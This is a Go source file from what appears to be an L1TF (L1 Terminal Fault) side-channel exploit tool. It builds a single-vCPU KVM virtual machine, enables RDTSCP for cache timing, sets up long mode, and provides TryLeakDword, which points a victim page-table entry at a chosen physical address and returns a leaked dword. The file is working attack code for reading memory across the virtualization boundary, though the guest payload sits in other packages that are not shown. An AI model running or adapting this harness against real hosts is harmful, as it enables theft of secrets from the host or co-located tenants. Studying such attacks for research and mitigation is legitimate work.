// Package machine owns one KVM virtual machine with one vCPU and drives the
// two experiments this tool runs in it: the L1TF dword leak and the
// timer-bounded counting run.
package machine

import (
	"encoding/binary"
	"errors"
	"fmt"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/nmi/l1tf/handle"
	"github.com/nmi/l1tf/kvm"
	"github.com/nmi/l1tf/leak"
	"github.com/nmi/l1tf/pagetable"
)

var (
	// ErrRegionOverlap means a guest-physical range was registered twice.
	ErrRegionOverlap = errors.New("guest memory regions overlap")

	// ErrEmptyRegion means a guest memory region with no backing bytes.
	ErrEmptyRegion = errors.New("empty guest memory region")

	// ErrNoRDTSCPLeaf means the host never offered the extended CPUID
	// leaf the guest's timing measurement depends on.
	ErrNoRDTSCPLeaf = errors.New("no extended feature cpuid leaf on this host")

	// ErrPayloadSize means the guest blob is not a whole number of pages,
	// so the page tables cannot sit directly behind it.
	ErrPayloadSize = errors.New("guest payload not page sized")
)

// Machine is the VM, its single vCPU and the guest address space:
// the payload blob read-only at guest-physical 0 and the paging hierarchy
// directly behind it.
type Machine struct {
	dev    *handle.FD
	vm     *handle.FD
	vcpu   *handle.FD
	runMap *handle.Mapping
	run    *kvm.RunData

	code    *handle.Mapping
	tables  *pagetable.Tables
	regions []kvm.UserspaceMemoryRegion
}

// New builds the whole machine: device, VM, vCPU with its shared run state,
// both memory regions, the RDTSCP CPUID enable and the long-mode register
// state. After New the machine only needs per-round register loads.
func New(dev string, payload []byte) (*Machine, error) {
	if len(payload) == 0 || len(payload)%pagetable.PageSize != 0 {
		return nil, fmt.Errorf("%w: %d bytes", ErrPayloadSize, len(payload))
	}

	m := &Machine{}

	var err error
	if m.dev, err = handle.Open(dev, unix.O_RDWR); err != nil {
		return nil, err
	}

	version, err := kvm.GetAPIVersion(m.dev.Raw())
	if err != nil {
		return nil, fmt.Errorf("KVM_GET_API_VERSION: %w", err)
	}

	if version != kvm.APIVersion {
		return nil, fmt.Errorf("%w: %d", kvm.ErrAPIVersion, version)
	}

	vmFd, err := kvm.CreateVM(m.dev.Raw())
	if err != nil {
		return nil, fmt.Errorf("KVM_CREATE_VM: %w", err)
	}

	m.vm = handle.Wrap(int(vmFd), "vm")

	vcpuFd, err := kvm.CreateVCPU(m.vm.Raw(), 0)
	if err != nil {
		return nil, fmt.Errorf("KVM_CREATE_VCPU: %w", err)
	}

	m.vcpu = handle.Wrap(int(vcpuFd), "vcpu")

	mmapSize, err := kvm.GetVCPUMMmapSize(m.dev.Raw())
	if err != nil {
		return nil, fmt.Errorf("KVM_GET_VCPU_MMAP_SIZE: %w", err)
	}

	if m.runMap, err = handle.Map(int(m.vcpu.Raw()), int(mmapSize), "vcpu run state"); err != nil {
		return nil, err
	}

	m.run = (*kvm.RunData)(unsafe.Pointer(&m.runMap.Bytes()[0]))

	// The payload backing must be page aligned for KVM; copy the blob
	// into an owned anonymous mapping.
	if m.code, err = handle.Anonymous(len(payload), "guest code"); err != nil {
		return nil, err
	}

	copy(m.code.Bytes(), payload)

	// Guest code is read-only for the guest on purpose: the attack gets
	// no writable memory it was not explicitly granted.
	if _, err := m.AddMemoryRegion(0, m.code.Bytes(), true); err != nil {
		return nil, err
	}

	if m.tables, err = pagetable.New(uint64(len(payload))); err != nil {
		return nil, err
	}

	if _, err := m.AddMemoryRegion(m.tables.GPA(), m.tables.Bytes(), false); err != nil {
		return nil, err
	}

	if err := m.enableRDTSCP(); err != nil {
		return nil, err
	}

	if err := m.enterLongMode(); err != nil {
		return nil, err
	}

	return m, nil
}

// AddMemoryRegion registers backing as guest-physical memory at gpa and
// returns the assigned slot. Slots only ever grow; guest-physical ranges
// must not overlap an existing region.
func (m *Machine) AddMemoryRegion(gpa uint64, backing []byte, readonly bool) (uint32, error) {
	size := uint64(len(backing))
	if size == 0 {
		return 0, fmt.Errorf("%w: at %#x", ErrEmptyRegion, gpa)
	}

	for _, r := range m.regions {
		if gpa < r.GuestPhysAddr+r.MemorySize && r.GuestPhysAddr < gpa+size {
			return 0, fmt.Errorf("%w: [%#x,%#x) against slot %d",
				ErrRegionOverlap, gpa, gpa+size, r.Slot)
		}
	}

	region := kvm.UserspaceMemoryRegion{
		Slot:          uint32(len(m.regions)),
		GuestPhysAddr: gpa,
		MemorySize:    size,
		UserspaceAddr: uint64(uintptr(unsafe.Pointer(&backing[0]))),
	}

	if readonly {
		region.SetMemReadonly()
	}

	if err := kvm.SetUserMemoryRegion(m.vm.Raw(), &region); err != nil {
		return 0, fmt.Errorf("KVM_SET_USER_MEMORY_REGION: %w", err)
	}

	m.regions = append(m.regions, region)

	return region.Slot, nil
}

// enableRDTSCP rewrites the extended feature leaf so KVM exposes RDTSCP,
// which the guest uses for its cache timing.
func (m *Machine) enableRDTSCP() error {
	cpuid := kvm.CPUID{}
	cpuid.Nent = kvm.MaxCPUIDEntries

	if err := kvm.GetSupportedCPUID(m.dev.Raw(), &cpuid); err != nil {
		return fmt.Errorf("KVM_GET_SUPPORTED_CPUID: %w", err)
	}

	found := false

	for i := 0; i < int(cpuid.Nent); i++ {
		if cpuid.Entries[i].Function == kvm.CPUIDExtFeatures {
			cpuid.Entries[i].Edx = kvm.CPUIDEdxRDTSCP
			found = true
		}
	}

	if !found {
		return ErrNoRDTSCPLeaf
	}

	if err := kvm.SetCPUID2(m.vcpu.Raw(), &cpuid); err != nil {
		return fmt.Errorf("KVM_SET_CPUID2: %w", err)
	}

	return nil
}

// enterLongMode writes the control and segment state that drops the vCPU
// straight into 64-bit mode with CR3 at the paging hierarchy. Set exactly
// once; only general purpose state changes between rounds.
func (m *Machine) enterLongMode() error {
	sregs, err := kvm.GetSregs(m.vcpu.Raw())
	if err != nil {
		return fmt.Errorf("KVM_GET_SREGS: %w", err)
	}

	sregs.CR0 = longModeCR0
	sregs.CR2 = 0
	sregs.CR3 = m.tables.GPA()
	sregs.CR4 = longModeCR4
	sregs.EFER = longModeEFER

	sregs.CS = kvm.Segment{
		Base:     0,
		Selector: codeSelector,
		Typ:      codeSegmentType,
		Present:  1,
		S:        1,
		L:        1,
		G:        1,
	}

	sregs.DS = sregs.CS
	sregs.DS.Typ = dataSegmentType
	sregs.DS.Selector = dataSelector

	sregs.SS, sregs.ES, sregs.FS, sregs.GS = sregs.DS, sregs.DS, sregs.DS, sregs.DS

	if err := kvm.SetSregs(m.vcpu.Raw(), sregs); err != nil {
		return fmt.Errorf("KVM_SET_SREGS: %w", err)
	}

	return nil
}

// TryLeakDword arms the victim translation for pa, runs the guest once and
// returns its raw dword and sureness mask. The only acceptable exit is the
// 4-byte out to the result port.
func (m *Machine) TryLeakDword(pa uint64) (leak.Sample, error) {
	m.tables.SetVictimPA(pa)

	regs := &kvm.Regs{
		RFLAGS: rflagsReserved,
		RIP:    0,
		RDI:    m.tables.VictimGVA(pa),
	}

	if err := kvm.SetRegs(m.vcpu.Raw(), regs); err != nil {
		return leak.Sample{}, fmt.Errorf("KVM_SET_REGS: %w", err)
	}

	if err := kvm.Run(m.vcpu.Raw()); err != nil {
		return leak.Sample{}, fmt.Errorf("KVM_RUN: %w", err)
	}

	if kvm.ExitType(m.run.ExitReason) != kvm.EXITIO {
		return leak.Sample{}, m.unexpectedExit()
	}

	direction, size, port, _, _ := m.run.IO()
	if direction != kvm.EXITIOOUT || port != ResultPort || size != resultSize {
		return leak.Sample{}, fmt.Errorf("%w: io %d byte(s) dir %d on port %#x",
			kvm.ErrUnexpectedExitReason, size, direction, port)
	}

	regs, err := kvm.GetRegs(m.vcpu.Raw())
	if err != nil {
		return leak.Sample{}, fmt.Errorf("KVM_GET_REGS: %w", err)
	}

	return leak.Sample{Value: uint32(regs.R9), Sureness: uint32(regs.R11)}, nil
}

// RunCounting runs the guest until the armed timer signal interrupts the
// resume call and returns the loop count the guest accumulated in RAX.
func (m *Machine) RunCounting() (uint64, error) {
	regs := &kvm.Regs{
		RFLAGS: rflagsReserved,
		RIP:    0,
		RAX:    0,
	}

	if err := kvm.SetRegs(m.vcpu.Raw(), regs); err != nil {
		return 0, fmt.Errorf("KVM_SET_REGS: %w", err)
	}

	// EINTR is the expected way out here; the timer signal yanks the
	// vCPU out of KVM_RUN.
	if err := kvm.Run(m.vcpu.Raw()); err != nil && !errors.Is(err, unix.EINTR) {
		return 0, fmt.Errorf("KVM_RUN: %w", err)
	}

	if kvm.ExitType(m.run.ExitReason) != kvm.EXITINTR {
		return 0, m.unexpectedExit()
	}

	regs, err := kvm.GetRegs(m.vcpu.Raw())
	if err != nil {
		return 0, fmt.Errorf("KVM_GET_REGS: %w", err)
	}

	return regs.RAX, nil
}

// SetSignalMask installs the mask the vCPU thread runs under while blocked
// in KVM_RUN; see timer.New for the swap it is part of.
func (m *Machine) SetSignalMask(set *unix.Sigset_t) error {
	mask := kvm.SignalMask{Len: 8}
	binary.NativeEndian.PutUint64(mask.Sigset[:], set.Val[0])

	if err := kvm.SetSignalMask(m.vcpu.Raw(), &mask); err != nil {
		return fmt.Errorf("KVM_SET_SIGNAL_MASK: %w", err)
	}

	return nil
}

func (m *Machine) unexpectedExit() error {
	reason := kvm.ExitType(m.run.ExitReason)

	regs, err := kvm.GetRegs(m.vcpu.Raw())
	if err != nil {
		return fmt.Errorf("%w: %s (KVM_GET_REGS also failed: %v)",
			kvm.ErrUnexpectedExitReason, reason, err)
	}

	return fmt.Errorf("%w: %s, guest %s",
		kvm.ErrUnexpectedExitReason, reason, DumpInstruction(m.code.Bytes(), regs.RIP))
}

// Close tears the machine down in reverse construction order.
func (m *Machine) Close() {
	if m.tables != nil {
		m.tables.Close()
	}

	if m.code != nil {
		m.code.Close()
	}

	if m.runMap != nil {
		m.runMap.Close()
	}

	if m.vcpu != nil {
		m.vcpu.Close()
	}

	if m.vm != nil {
		m.vm.Close()
	}

	if m.dev != nil {
		m.dev.Close()
	}
}
